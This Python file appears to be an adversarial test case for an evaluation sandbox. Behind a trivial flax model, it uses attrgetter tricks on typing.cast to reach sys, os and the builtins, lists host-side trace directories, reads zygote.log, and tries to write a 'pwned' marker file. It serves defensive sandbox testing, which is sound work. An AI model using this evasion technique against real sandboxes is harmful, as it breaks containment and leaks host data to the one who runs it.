# expect: crash
# kind: file-access
# attack: the zygote's sys.path[0] is its cwd, the trace root (/tmp/evonas-eval-*/trace) that holds zygote.log and every sandbox's host-side work dir, so it becomes readable: list it and read zygote.log into the message (a reconnaissance leak; nothing writable)
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
SYS = AG("__globals__")(typing.cast)["sys"]
B = AG("__builtins__")(typing.cast)
OS = AG("modules")(SYS)["os"]
OUT = []
for root in [p for p in AG("path")(SYS) if "evonas-eval" in p] + ["/tmp/evonas-eval-probe-none"]:
    try:
        OUT.append(root + "=" + repr(OS.listdir(root)))
        OUT.append("log=" + B["open"](root + "/zygote.log").read()[-300:])
        OUT.append("parent=" + repr(OS.listdir(OS.path.dirname(root))))
    except Exception as err:
        OUT.append(root + "!" + repr(err))
    try:
        B["open"](root + "/evonas-pwned-root", "w").write("pwned")
        OUT.append("WROTE into the trace root")
    except Exception as err:
        OUT.append("write!" + repr(err))
raise RuntimeError(" | ".join(OUT))


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(x)
